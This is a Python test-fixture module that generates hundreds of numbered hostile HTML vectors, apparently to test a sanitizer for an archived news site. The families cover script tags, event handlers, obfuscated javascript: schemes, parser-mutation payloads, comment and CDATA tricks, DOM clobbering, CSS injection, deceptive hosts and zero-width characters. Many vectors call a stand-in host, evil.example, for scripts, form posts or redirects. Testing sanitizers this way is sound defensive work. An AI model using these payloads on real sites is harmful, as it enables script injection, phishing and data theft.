"""Hostile markup by the families in which it is published.

`RUN` sets a canary when it is executed; every address that must not be asked for is at `EVIL`. Each vector stands
between two texts, which tell whether anything around it is lost.
"""

from __future__ import annotations

import itertools
from collections.abc import Iterator
from dataclasses import dataclass

RUN = "top.ran=1"
EVIL = "https://evil.example/"
HEADER = "<!--1738045024000-->\n[第{number}號](https://www.dw.com/zh/x/a-{address})\n------\n\n"  # of a file
BEFORE, AFTER = "潮前{n}號", "潮後{n}號"

# Elements whose start tag, left open, makes the rest of the page something else than text.
SWALLOWING = ("script", "style", "xmp", "iframe", "noembed", "noframes", "textarea", "title", "plaintext", "template")
HANDLERS = (
    *("load", "error", "click", "focus", "blur", "mouseover", "pointerenter", "animationstart", "animationend"),
    *("transitionend", "toggle", "beforetoggle", "begin", "end", "repeat", "scroll", "scrollend", "wheel", "paste"),
    *("input", "change", "invalid", "auxclick", "contextmenu", "beforematch", "contentvisibilityautostatechange"),
    *("hashchange", "message", "pageshow", "popstate", "resize", "unhandledrejection", "securitypolicyviolation"),
)
ELEMENTS = (
    *("p", "img", "a", "svg", "body", "details", "video", "audio", "input", "marquee", "object", "iframe", "figure"),
    *("table", "td", "blockquote", "ruby", "h2", "li", "custom-element", "math"),
)
# What may stand before, in and behind the name of a scheme without browsers minding, or filters noticing.
SCHEMES = (
    *("javascript:", "JaVaScRiPt:", " javascript:", "\tjavascript:", "\njavascript:", "java\tscript:", "java\nscript:"),
    *("java\rscript:", "javascript\t:", "\x01javascript:", "\x08javascript:", "\x1fjavascript:", "\x0cjavascript:"),
    *("&#106;avascript:", "&#x6A;avascript:", "&#0000106avascript:", "&#x6Aavascript:", "javascript&colon;"),
    *("javascript&#58;", "javascript&#x3a;", "java&Tab;script:", "java&NewLine;script:", "&Tab;javascript:"),
    *("&#1;javascript:", "&#14;  javascript:", "javas\u200bcript:", "javas\u00adcript:", "\u202ejavascript:"),
    *(
        "\ufeffjavascript:",
        "\u3000javascript:",
        "\u2028javascript:",
        "ｊａｖａｓｃｒｉｐｔ:",
        "javaſcript:",
        "feed:javascript:",
    ),
    *("view-source:javascript:", "jar:javascript:", "vbscript:", "livescript:", "mocha:", "javascript://%0a"),
    *("javascript:/*https://a.example/*/", "https://a.example/\njavascript:", "data:text/html,<script>"),
    *("data:text/html;base64,PHNjcmlwdD50b3AucmFuPTE8L3NjcmlwdD4=", "data:image/svg+xml,<svg onload=top.ran=1>"),
    *("data:application/xhtml+xml,<x:script xmlns:x='http://www.w3.org/1999/xhtml'>", "blob:https://a.example/x"),
    *("filesystem:https://a.example/x", "about:srcdoc", "file:///etc/passwd", "ws://evil.example/", "intent://x#"),
)
CARRIERS = (
    '<a href="{0}">{1}</a>',
    "<a href='{0}'>{1}</a>",
    '<img src="{0}">{1}',
    '<img data-src="{0}" alt="x">{1}',
    '<iframe src="{0}"></iframe>{1}',
    '<form action="{0}"><input type=submit></form>{1}',
    '<object data="{0}"></object>{1}',
    '<svg><a xlink:href="{0}"><text>x</text></a></svg>{1}',
    '<blockquote cite="{0}">{1}</blockquote>',
    '<video poster="{0}" src="{0}"></video>{1}',
)
INNER = f"<img src=x onerror={RUN}>"
# Content that is one thing for one parser and another for the next.
MUTATIONS = (
    "<noscript><p title='</noscript>{0}'>",
    "<noscript><style></noscript>{0}</style>",
    "<noscript><p title='</noscript>潮",
    "<noscript><a href='</noscript>{0}",
    '<noscript><img alt="x</noscript>{0}',
    "<noscript><!--</noscript>{0}",
    "<noscript><textarea></noscript>{0}",
    "<noscript><p</noscript>{0}",
    "<noscript title='>'><p title=\"</NOSCRIPT >{0}",
    "<p title='<noscript>'>a</p><noscript><svg></noscript>{0}",
    "<svg></p><style><a id='</style>{0}'>",
    "<svg><style><!--</style>{0}--></svg>",
    "<svg><desc><style><a title='</style>{0}'></desc></svg>",
    "<svg><foreignObject><math><mi><style></mi>{0}</style></math></foreignObject></svg>",
    "<svg><title><style><a title='</style>{0}'></title></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;{1}'>",
    "<math><mtext><table><mglyph><style><![CDATA[</style><img title=']]&gt;{1}'>",
    "<math><mi><table><mglyph><svg><mtext><style><path id='</style>{0}'>",
    "<math><annotation-xml encoding='text/html'><style><a id='</style>{0}'></annotation-xml></math>",
    "<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title='</style>{0}'></style></h1>",
    "<form><math><mtext></form><form><mglyph><style></math>{0}</style></form>",
    "<form><p>a</form><form><div></form><style>{0}</style>",
    "<template><p></template>{0}<template></template>",
    "<template><script>top.ran=1</script></template>{0}",
    "<template><template></template><style></template>{0}</style>",
    "<div><template shadowrootmode=open>{0}</template></div>",
    "<select><template><style><!--</style>{0}--></template></select>",
    "<select><option><style></option></select>{0}</style>",
    "<select><svg><style></select>{0}</style>",
    "<select><math><mtext><script>top.ran=1</script>{0}</select>",
    "<table><caption><svg><style><table><!--</style>{0}--></table></caption></table>",
    "<table><tr><td><svg><desc><table><style></td>{0}</style></table>",
    "<xmp><p title='</xmp>{0}'></xmp>",
    "<noembed><p title='</noembed>{0}'></noembed>",
    "<noframes><p title='</noframes>{0}'></noframes>",
    "<iframe><p title='</iframe>{0}'></iframe>",
    "<textarea><p title='</textarea>{0}'></textarea>",
    "<title><p title='</title>{0}'></title>",
    "<style><p title='</style>{0}'></style>",
    "<option><style></option></select>{0}</style>",
    "<p id='x\"&gt;{1}'>a</p>",
    "<img alt='`&gt;{1}`' src=x>",
    "<a href='https://a.example/`{1}`'>a</a>",
    "<listing>&lt;img onerror=top.ran=1 src=x&gt;</listing>",
    "<pre>\n\n&lt;/pre&gt;{1}</pre>",
    "<svg><p><style><g title='</style>{0}'></svg>",
    "<b><svg><mtext></b><style>{0}</style></svg>",
    "<a><table><a></table><style>{0}</style></a>",
    "<rb><rtc><ruby><style><rt title='</style>{0}'></ruby>",
    "<dialog open>{0}</dialog>",
    "<search><menu>{0}</menu></search>",
    "<frameset onload=top.ran=1><frame src=javascript:top.ran=1></frameset>",
    "<svg><set attributeName=onmouseover to=top.ran=1 /><animate onbegin=top.ran=1 attributeName=x dur=1s></svg>",
    "<svg><a><animate attributeName=href values=javascript:top.ran=1 /><text>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,&lt;svg id=x onload=top.ran=1&gt;#x'></use></svg>",
    "<svg><script href='data:,top.ran=1' /></svg>",
    "<svg><script>&#116;op.ran=1</script></svg>",
    "<svg><foreignObject>{0}<iframe srcdoc='{1}'></iframe></foreignObject></svg>",
    "<math href=javascript:top.ran=1>x</math><math><maction actiontype=statusline xlink:href=javascript:top.ran=1>y",
)
COMMENTS = (
    "<!-- {0} -->",
    "<!--{0}--!>{0}-->",
    "<!-->{0}-->",
    "<!--->{0}-->",
    "<!- -{0}-->",
    "<!{0}>",
    "<?xml {0}?>",
    "<?{0}",
    "</ {0}>",
    "<![CDATA[{0}]]>",
    "<svg><![CDATA[</svg>{0}]]></svg>",
    "<math><![CDATA[><{0}]]></math>",
    "<!--[if gte IE 4]>{0}<![endif]-->",
    "<!--[if !IE]><!-->{0}<!--<![endif]-->",
    "<!DOCTYPE html [<!ENTITY x '{1}'>]>&x;",
    "<%{0}%>",
    "<!ENTITY x SYSTEM 'file:///etc/passwd'>&x;",
    "<!--\x00>{0}-->",
    "<!-- --\x00> {0} -->",
)
# Tags that one tokenizer ends or begins where another does not.
TAGS = (
    "<script>top.ran=1</script>",
    "<SCRIPT>top.ran=1</SCRIPT>",
    "<scr<script>ipt>top.ran=1</scr</script>ipt>",
    "<script/x>top.ran=1</script>",
    "<script\n>top.ran=1</script\n>",
    "<script\x0c>top.ran=1</script>",
    "<script>top.ran=1</script foo='>'>",
    "<script src=//evil.example/x.js></script>",
    "<script src=data:,top.ran=1></script>",
    "<script type=module>import('https://evil.example/x.js')</script>",
    "<script type=importmap>{{}}</script>",
    "<script type=speculationrules>{{'prefetch':[{{'urls':['https://evil.example/']}}]}}</script>",
    "<<script>top.ran=1//<</script>",
    "<script <b>>top.ran=1</script>",
    "<script>/*<!--<script>*/top.ran=1</script></script>",
    "\x00<scr\x00ipt>top.ran=1</script>",
    "<ſcript>top.ran=1</ſcript>",
    "＜script＞top.ran=1＜/script＞",
    "<img src=x:x onerror=top.ran=1//",
    "<img/src=x/onerror=top.ran=1>",
    "<img src=x\x0bonerror=top.ran=1>",
    "<img src=x\x0conerror=top.ran=1>",
    "<img src='x' 'onerror=top.ran=1'>",
    '<img src="x"onerror="top.ran=1">',
    "<img src=`x`onerror=top.ran=1>",
    "<img '<!--' onerror=top.ran=1 src=x>",
    "<img =src=x onerror=top.ran=1 src=x>",
    "<img src=x onerror\x00=top.ran=1>",
    "<img src=x on\u200berror=top.ran=1>",
    "<img src=x ONERROR=top.ran=1>",
    "<img src=x onerror=&#116;op.ran=1>",
    "<img src=x onerror='&#116&#111p.ran=1'>",
    '<img """><script>top.ran=1</script>">',
    "<a href='x' title='\"><script>top.ran=1</script>'>a</a>",
    '<p title="a\nb\'>" onclick=top.ran=1>a</p>',
    "<svg/onload=top.ran=1>",
    "<svg><script>top.ran=1</script></svg>",
    "<isindex type=image src=1 onerror=top.ran=1>",
    "<keygen autofocus onfocus=top.ran=1>",
    "<input autofocus onfocus=top.ran=1>",
    "<select autofocus onfocus=top.ran=1>",
    "<textarea autofocus onfocus=top.ran=1></textarea>",
    "<details open ontoggle=top.ran=1>a</details>",
    "<marquee onstart=top.ran=1>a</marquee>",
    "<video><source onerror=top.ran=1></video>",
    "<audio src=x onerror=top.ran=1></audio>",
    "<picture><source srcset='https://evil.example/p.png'><img onerror=top.ran=1 src=x></picture>",
    "<applet code=x archive=https://evil.example/></applet>",
    "<embed src=https://evil.example/x.swf allowscriptaccess=always>",
    "<object type=text/html data='data:text/html,<script>top.ran=1</script>'></object>",
    "<iframe srcdoc='<script>top.ran=1</script>'></iframe>",
    "<portal src=https://evil.example/></portal>",
    "<fencedframe src=https://evil.example/></fencedframe>",
    "<xml id=x><a><b>&lt;script>top.ran=1&lt;/script></b></a></xml>",
    "<layer src=https://evil.example/></layer>",
    "<bgsound src=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<link rel=import href=https://evil.example/>",
    "<link rel=prefetch href=https://evil.example/>",
    "<link rel=dns-prefetch href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=javascript:top.ran=1'>",
    "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\">",
    "<meta http-equiv=set-cookie content=a=b>",
    "<meta charset=utf-7>+ADw-script+AD4-top.ran=1+ADw-/script+AD4-",
    "<meta name=referrer content=unsafe-url>",
    "<base href=https://evil.example/>",
    "<base target=_top href='javascript:/a/-top.ran=1///////'>",
    "<html manifest=https://evil.example/ onclick=top.ran=1>",
    "<body onload=top.ran=1 background=https://evil.example/b.png>",
    "<table background=https://evil.example/t.png><tr><td background=javascript:top.ran=1>a</td></tr></table>",
    "<button popovertarget=x>b</button><div popover id=x onbeforetoggle=top.ran=1>c</div>",
    "<a href=https://evil.example/ ping=https://evil.example/ping target=_blank rel=opener>a</a>",
    "<a href=/admin/logout/ download=x>a</a>",
)
FORMS = (
    "<form action=https://evil.example/ method=post><input name=csrfmiddlewaretoken><input type=submit></form>",
    "<form id=f></form><button form=f formaction=javascript:top.ran=1>b</button>",
    "<form><form action=https://evil.example/><input autofocus></form></form>",
    "<form><input type=image src=https://evil.example/i.png onerror=top.ran=1></form>",
    "<input type=submit formaction=https://evil.example/ form=changelist-form>",
    "<button type=submit form=logout-form>b</button>",
    "<isindex action=https://evil.example/ prompt=Password>",
    "<label for=id_password>l</label><input type=password name=password>",
    "<output form=x name=y>o</output><fieldset form=x><legend>g</legend></fieldset>",
    "<form><select name=a><option>o</select><textarea name=b>t</textarea><keygen></form>",
    "<datalist id=x><option value=y></datalist><meter value=1></meter><progress></progress>",
)
CLOBBERS = (
    *(
        "location",
        "document",
        "cookie",
        "body",
        "head",
        "forms",
        "attributes",
        "nodeName",
        "parentNode",
        "currentScript",
    ),
    *("getElementById", "querySelector", "createElement", "__proto__", "constructor", "innerHTML", "baseURI", "top"),
    *("self", "name", "defaultView", "scripts", "main", "content", "user-tools", "csrfmiddlewaretoken", "id_title"),
    *("note-1 note-2", 'note-1" onclick="top.ran=1', "note-\u202e"),
)
STYLES = (
    "position:fixed;inset:0;z-index:99999;background:red",
    "position:absolute;top:-9999px;left:0;width:9999px;height:99999px",
    "background:url(https://evil.example/b.png)",
    "background:u\\72l(https://evil.example/b.png)",
    "width:expression(top.ran=1)",
    "behavior:url(https://evil.example/x.htc)",
    "-moz-binding:url(https://evil.example/x.xml#a)",
    "@import 'https://evil.example/x.css'",
    "margin-top:-10000px;transform:scale(1000)",
    "list-style-image:url(https://evil.example/l.png)",
    "cursor:url(https://evil.example/c.cur),auto",
    "font-size:9999px;display:none;color:transparent",
    "}</style><script>top.ran=1</script>",
    "background-image:image-set('https://evil.example/s.png' 1x)",
    "content-visibility:auto;mask:url(https://evil.example/m.svg#a)",
)
SOURCES = (
    "https://evil.example/1.png 1x, https://evil.example/2.png 2x",
    "javascript:top.ran=1 1x",
    "data:image/svg+xml,<svg onload=top.ran=1> 1x",
    "x 1x, x onerror=top.ran=1",
    "//evil.example/a.png, /\\evil.example/b.png 100w",
)
# Addresses that say one thing and open another; what stays of them must be http, https, mailto, or of this site.
HOSTS = (
    *("//evil.example/", "/\\evil.example/", "\\\\evil.example/", "/\t/evil.example/", "https:evil.example/"),
    *("https:/evil.example/", "https:\\\\evil.example/", "https://a.example@evil.example/", "https://а.example/"),
    *(
        "https://evil。example/",
        "https://ｅｖｉｌ.example/",
        "https://xn--e1awd7f.example/",
        "https://evil.example\u200b/",
    ),
    *("https://evil.example\u202e/moc.elgoog", "https://[::1]/", "https://2130706433/", "https://0x7f.1/"),
    *("https://faß.example/", "https://a.example/\x00", "https://a.example:99999/", "https://%65vil.example/"),
    *("https://a.example/?q=<script>top.ran=1</script>", 'https://a.example/"onclick=top.ran=1', "?q=1", "#top"),
    *("mailto:a@b.example?body=<script>", "MAILTO:x", "tel:1", "sms:1", "facetime:x", "ftp://evil.example/", "."),
)
# Signs without a width, or that turn the direction: alone, in words, in tags.
SIGNS = ("\u200b", "\u200c", "\u200d", "\u2060", "\ufeff", "\u00ad", "\u202a", "\u202e", "\u2066", "\u2067", "\u061c")


@dataclass(frozen=True)
class Vector:
    """One piece of hostile markup, and its number in the texts around it."""

    family: str
    number: int
    html: str

    @property
    def before(self) -> str:
        """The text in front of it."""
        return BEFORE.format(n=self.number)

    @property
    def after(self) -> str:
        """The text behind it."""
        return AFTER.format(n=self.number)

    @property
    def body(self) -> str:
        """All of it, as a file's body."""
        return f"<p>{self.before}</p><div>{self.html}</div><p>{self.after}</p>"

    @property
    def file(self) -> str:
        """A whole file of the archive."""
        return HEADER.format(number=self.number, address=7_000_000 + self.number) + self.body


def _filled(rows: tuple[str, ...]) -> Iterator[str]:
    escaped = INNER.replace("<", "&lt;").replace(">", "&gt;")
    for row in rows:
        yield row.replace("{0}", INNER).replace("{1}", escaped)


def _handlers() -> Iterator[str]:
    for place, (name, element) in enumerate(itertools.product(HANDLERS, ELEMENTS)):
        if place % 5 == 0:
            yield f"<{element} on{name}={RUN} src=x>x</{element}>"
    for end in ("/", "\t", "\n", "\x0c", "\r", "/x/", '"', "'", "`"):
        yield f"<img src=x{end}onerror={RUN}>"
        yield f'<a href="#x"{end}onclick="{RUN}">a</a>'


def _addresses() -> Iterator[str]:
    for place, (scheme, carrier) in enumerate(itertools.product(SCHEMES, CARRIERS)):
        if place % 10 in (0, 2) or place % 7 == 0:
            yield carrier.replace("{0}", scheme + RUN).replace("{1}", "詞")


def _deep() -> Iterator[str]:
    for name in (
        "div",
        "blockquote",
        "b",
        "font",
        "ul",
        "table",
        "svg",
        "math",
        "template",
        "a",
        "ruby",
        "form",
        "select",
    ):
        yield f"<{name}>" * 600 + INNER + f"</{name}>" * 600
    for name in ("span", "em", "figure", "li"):
        yield f"<{name}>" * 3000 + "詞"


def _soup() -> Iterator[str]:
    yield "<p " + " ".join(f"a{n}={n}" for n in range(3000)) + f" onclick={RUN}>a</p>"
    yield "<p " + " ".join(f"on{name}={RUN}" for name in HANDLERS) + ">a</p>"
    yield f"<img src=x src=y onerror=x onerror={RUN} alt=1 alt=2>"
    yield '<a href="https://a.example/" href="javascript:top.ran=1" HREF=data:,x>a</a>'
    yield f"<a <b <i onclick={RUN} href='x' <=>a</a>"
    yield f'<img alt="{"x" * 20_000}" onerror={RUN} src=x>'
    yield f'<img src="data:image/png;base64,{"A" * 20_000}" onerror={RUN}>'
    yield f'<p xmlns="http://www.w3.org/2000/svg" xml:base="{EVIL}" is="x-y" slot=s part=p nonce=n>a</p>'
    yield "<p contenteditable autofocus tabindex=1 accesskey=s draggable=true spellcheck inert hidden>a</p>"
    yield '<p itemscope itemtype="https://evil.example/" itemprop=x data-controller=x x-data="{}" v-html=x ng-app>a</p>'
    yield '<p role=alert aria-label="Sign in" lang=x dir=rtl translate=no class="messagelist error">a</p>'


def _clobbers() -> Iterator[str]:
    for name in CLOBBERS:
        yield f'<a id="{name}"></a><a id="{name}" name="{name}" href="{EVIL}">a</a>'
        yield f'<img name="{name}" id="{name}"><form name="{name}"><input name="{name}" id="{name}"></form>'
        yield f'<p id="{name}">a</p><h2 id="{name}">b</h2>'


def _styles() -> Iterator[str]:
    for rule in STYLES:
        yield f'<p style="{rule}">a</p>'
        yield f"<style>*{{{rule}}}</style>"
        yield f'<img style="{rule}" class="site-head" width="99999" height="99999" src="x">'
    for value in ("99999", "-1", "1e9", "100%", "99999999999", "0", "1;position:fixed"):
        yield f'<table width="{value}"><tr><td colspan="{value}" rowspan="{value}" width="{value}">a</td></tr></table>'
        yield f'<ol start="{value}"><li value="{value}">a</li></ol><font size="{value}" color="{value}">b</font>'


def _signs() -> Iterator[str]:
    for sign in SIGNS:
        yield f"<p>{sign}a{sign}</p><a href='java{sign}script:{RUN}'>b</a>"
        yield f"<scr{sign}ipt>{RUN}</scr{sign}ipt><img src=x onerror{sign}={RUN}><im{sign}g src=x onerror={RUN}>"
        yield f'<a href="https://a.example/{sign}x{sign}">c</a>'


FAMILIES = {
    "tags": lambda: _filled(TAGS),
    "attributes": _handlers,
    "addresses": _addresses,
    "mutations": lambda: _filled(MUTATIONS),
    "comments": lambda: _filled(COMMENTS),
    "left open": lambda: (f"<{name}>{INNER}" for name in SWALLOWING),
    "forms": lambda: iter(FORMS),
    "nesting": _deep,
    "attribute soup": _soup,
    "clobbering": _clobbers,
    "styles": _styles,
    "srcset": lambda: (
        f'<img {name}="{value}" sizes=1px src="x" alt="a">'
        for name in ("srcset", "data-srcset", "imagesrcset", "src", "data-original", "lowsrc", "dynsrc", "longdesc")
        for value in SOURCES
    ),
    "hosts": lambda: (f'<a href="{value}">a</a><img src="{value}" alt="b">' for value in HOSTS),
    "signs": _signs,
}


def vectors() -> list[Vector]:
    """All of them, numbered; the same ones in the same order each time."""
    made = [(family, html) for family, make in FAMILIES.items() for html in make()]
    return [Vector(family, number, html) for number, (family, html) in enumerate(made)]
